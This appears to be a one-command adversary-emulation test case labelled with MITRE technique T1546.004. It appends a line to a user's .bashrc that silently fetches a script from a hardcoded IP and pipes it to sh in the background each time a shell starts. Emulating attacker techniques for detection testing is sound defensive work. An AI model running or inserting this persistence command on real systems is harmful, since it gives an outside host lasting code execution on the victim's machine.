# title: A line is added to a user's .bashrc
# technique: T1546.004
# as: user
# short: yes

echo '(curl -s http://192.88.99.7/x.sh | sh) 2>/dev/null &' >>~/.bashrc
